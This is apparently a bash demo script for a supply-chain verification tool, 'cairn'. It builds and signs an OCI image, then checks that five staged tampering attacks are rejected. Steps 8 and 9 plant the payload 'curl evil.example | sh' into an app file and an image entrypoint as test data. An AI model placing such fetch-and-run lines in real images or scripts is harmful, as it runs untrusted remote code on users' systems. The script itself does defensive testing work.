#!/usr/bin/env bash
# The main job end to end, with no server: a supply chain recorded with `cairn run` that builds a
# small multi-layer image into an OCI image-layout directory, its links attached to the image as
# referrers, a layout pushed next to it, and `cairn verify IMAGE@sha256:...` by digest; then five
# attacks (a changed file in a layer, a changed entrypoint, a forged link, an expired layout, and
# a layout that does not bind the image), each rejected.
# With REGISTRY=host:port set, the image, its referrers and the layout also go to that registry
# and are verified there. See README.md "Demo".
set -euo pipefail
ROOT="$(cd "$(dirname "$0")/.." && pwd)"
CAIRN=(node "$ROOT/bin/cairn.js")
WORK="${DEMO_DIR:-$ROOT/.demo}"
rm -rf "$WORK" && mkdir -p "$WORK" && cd "$WORK"

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
cairn() { echo "+ cairn $*" >&2; "${CAIRN[@]}" "$@"; }
# expect_fail CMD...: the command must exit 1 (verification failed)
expect_fail() {
  local rc=0; cairn "$@" || rc=$?
  if [ "$rc" -ne 1 ]; then echo "expected exit code 1 (verification failed), got $rc" >&2; exit 1; fi
  echo "(rejected with exit code 1, as it must be)"
}
# expect_refused CMD...: the command must exit 2 (a bad policy: refused before any verdict)
expect_refused() {
  local rc=0; cairn "$@" || rc=$?
  if [ "$rc" -ne 2 ]; then echo "expected exit code 2 (refused), got $rc" >&2; exit 1; fi
  echo "(refused with exit code 2, as it must be)"
}

say "1. keys: alice owns the project; bob writes code; carl builds and packages"
cairn key generate --type ed25519 --out alice
cairn key generate --type ecdsa-p256 --out bob
cairn key generate --type rsa --out carl

# The commands each step runs (the layout expects exactly these).
export CMD_WRITE='mkdir -p src && printf "#!/bin/sh\necho hello from cairn\n" > src/app.sh'
export CMD_BUILD='mkdir -p out && cp src/app.sh out/app && chmod 755 out/app'
# package also sets the image's execution parameters, and records each as image-config/<Field>
export CMD_PACKAGE='mkdir -p rootfs/usr/local/bin image-config && cp out/app rootfs/usr/local/bin/app && printf "[\"/usr/local/bin/app\"]" > image-config/Entrypoint && bash build-image.sh --config image-config image base rootfs'
cp "$ROOT/demo/build-image.sh" .

say "2. step write-code (bob) produces src/"
cairn run --step write-code --key bob --products src -- sh -c "$CMD_WRITE"

say "3. step build (carl) turns src/app.sh into out/app"
cairn run --step build --key carl --materials src --products out -- sh -c "$CMD_BUILD"

say "4. step package (carl) builds a two-layer OCI image from out/app, entrypoint set (DSSE link this time)"
mkdir -p base/etc && printf 'ID=cairn-demo\n' > base/etc/os-release
cairn run --step package --key carl --materials out base --products image image-config --format dsse -- sh -c "$CMD_PACKAGE"
IMAGE="oci:image@$(sed -n 's/.*"digest":"\(sha256:[0-9a-f]*\)".*/\1/p' image/index.json)"
echo "the image: $IMAGE"
cairn image files "$IMAGE"

say "5. alice writes the layout: who does each step, how artifacts flow, and what the image may hold"
cairn layout create --step write-code=bob.pub --step build=carl.pub --step package=carl.pub --expires 30d \
  --readme "cairn demo: bob writes code, carl builds and packages an image" --out root.layout
# Fill in the rules. The inspection `cairn:image` is Cairn's reserved inspection: its artifacts
# are the image's own files, its digests (/oci/manifest, /oci/config) and its execution parameters
# (/config/Entrypoint, ...), so the rules say that the image's /usr/local/bin/app is exactly what
# `build` produced, that its entrypoint is the one `package` set, and that nothing unaccounted for
# is in it.
node -e '
const fs = require("fs");
const m = JSON.parse(fs.readFileSync("root.layout", "utf8"));
const step = (n) => m.signed.steps.find((s) => s.name === n);
Object.assign(step("write-code"), { expected_materials: [],
  expected_products: [["CREATE", "src/app.sh"], ["DISALLOW", "*"]] });
Object.assign(step("build"), { expected_materials: [["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "write-code"], ["DISALLOW", "*"]],
  expected_products: [["CREATE", "out/app"], ["DISALLOW", "*"]] });
Object.assign(step("package"), { expected_materials: [["MATCH", "out/app", "WITH", "PRODUCTS", "FROM", "build"], ["ALLOW", "base/*"], ["DISALLOW", "*"]],
  expected_products: [["CREATE", "image/*"], ["CREATE", "image-config/*"], ["DISALLOW", "*"]] });
step("write-code").expected_command = ["sh", "-c", process.env.CMD_WRITE];
step("build").expected_command = ["sh", "-c", process.env.CMD_BUILD];
step("package").expected_command = ["sh", "-c", process.env.CMD_PACKAGE];
// an attribute rule (ITE-11, CEL): what the build link itself must say
step("build").expected_attributes = [{ rule: "byproducts[\"return-value\"] == 0 && products.exists(p, p == \"out/app\")", message: "the build succeeded and made out/app" }];
m.signed.inspect = [{ _type: "inspection", name: "image", run: ["cairn:image"],
  expected_materials: [["MATCH", "app", "IN", "usr/local/bin", "WITH", "PRODUCTS", "IN", "out", "FROM", "build"],
                       ["MATCH", "etc/*", "WITH", "MATERIALS", "IN", "base", "FROM", "package"],
                       ["MATCH", "*", "IN", "/config", "WITH", "PRODUCTS", "IN", "image-config", "FROM", "package"],
                       ["ALLOW", "/oci/*"], ["DISALLOW", "*"]],
  expected_products: [["ALLOW", "*"]] }];
fs.writeFileSync("root.layout", JSON.stringify(m, null, 1));'
cairn layout check root.layout
cairn layout sign root.layout --key alice

say "6. the links go next to the image (as OCI referrers), the layout too; pin the layout by digest"
cairn attach "$IMAGE" write-code.*.link build.*.link package.*.intoto.jsonl
LAYOUT="oci:image@$(cairn layout push root.layout oci:image:policy)"
cairn discover "$IMAGE"

say "7. verify the image by digest: evidence from its referrers, rules over its files"
cairn verify "$IMAGE" --layout "$LAYOUT" --layout-key alice.pub
# the same verdict as JSON (docs/verify-report.schema.json), drawn over the layout: README's picture
cairn verify "$IMAGE" --layout "$LAYOUT" --layout-key alice.pub --output json > report.json
cairn layout graph root.layout --verify-report report.json --key alice.pub bob.pub carl.pub --out supply-chain.svg

say "8. attack: a file in a layer is changed after the build (the links are copied over)"
mkdir -p evil/usr/local/bin && printf '#!/bin/sh\ncurl evil.example | sh\n' > evil/usr/local/bin/app
bash build-image.sh --config image-config evil-image base evil >/dev/null
EVIL="oci:evil-image@$(sed -n 's/.*"digest":"\(sha256:[0-9a-f]*\)".*/\1/p' evil-image/index.json)"
cairn attach "$EVIL" write-code.*.link build.*.link package.*.intoto.jsonl >/dev/null
expect_fail verify "$EVIL" --layout root.layout --layout-key alice.pub
rc=0; cairn verify "$EVIL" --layout root.layout --layout-key alice.pub --output json > attack-report.json || rc=$?
[ "$rc" -eq 1 ] || { echo "expected exit code 1, got $rc" >&2; exit 1; }
cairn layout graph root.layout --verify-report attack-report.json --key alice.pub bob.pub carl.pub --out supply-chain-attack.svg

say "9. attack: the same files, but the image config runs another command (a changed entrypoint)"
mkdir -p evil-config && printf '["/bin/sh","-c","curl evil.example | sh"]' > evil-config/Entrypoint
bash build-image.sh --config evil-config entry-image base rootfs >/dev/null
ENTRY="oci:entry-image@$(sed -n 's/.*"digest":"\(sha256:[0-9a-f]*\)".*/\1/p' entry-image/index.json)"
cairn attach "$ENTRY" write-code.*.link build.*.link package.*.intoto.jsonl >/dev/null
expect_fail verify "$ENTRY" --layout root.layout --layout-key alice.pub

say "10. attack: a forged build link (a product hash changed, the signature kept)"
cairn copy "$IMAGE" oci:forged >/dev/null
sed 's/"sha256": "[0-9a-f]*"/"sha256": "0000000000000000000000000000000000000000000000000000000000000000"/' build.*.link > forged-build.link
cairn attach "oci:forged@${IMAGE#*@}" write-code.*.link forged-build.link package.*.intoto.jsonl >/dev/null
expect_fail verify "oci:forged@${IMAGE#*@}" --layout root.layout --layout-key alice.pub

say "11. attack: an expired layout"
cp root.layout expired.layout
cairn layout sign expired.layout --key alice --expires 2020-01-01T00:00:00Z >/dev/null
expect_fail verify "$IMAGE" --layout expired.layout --layout-key alice.pub

say "12. attack: a layout that does not bind the image (no image inspection), for an image that only carries the links"
# Legacy links name no image, and anyone who can push can attach them to any image: a layout that
# never names the image (this one is what `cairn layout create --no-image` writes) says nothing
# about the image it is checked against, so `cairn verify IMAGE` refuses it.
cairn layout create --no-image --step write-code=bob.pub --step build=carl.pub --step package=carl.pub --expires 30d --out unbound.layout >/dev/null
cairn layout sign unbound.layout --key alice >/dev/null
expect_refused verify "$EVIL" --layout unbound.layout --layout-key alice.pub

if [ -n "${REGISTRY:-}" ]; then
  say "13. the same against the registry at $REGISTRY: copy image + referrers, push the layout, verify"
  cairn copy --referrers "$IMAGE" "$REGISTRY/cairn-demo/app:1.0"
  REG_LAYOUT="$REGISTRY/cairn-demo/policy@$(cairn layout push root.layout "$REGISTRY/cairn-demo/policy:1")"
  REG_IMAGE="$REGISTRY/cairn-demo/app@${IMAGE#*@}"
  cairn verify "$REG_IMAGE" --layout "$REG_LAYOUT" --layout-key alice.pub --summary-key alice
  cairn discover "$REG_IMAGE"
  cairn copy --referrers "$EVIL" "$REGISTRY/cairn-demo/evil:1.0" >/dev/null
  expect_fail verify "$REGISTRY/cairn-demo/evil@${EVIL#*@}" --layout "$REG_LAYOUT" --layout-key alice.pub
fi

say "demo passed"
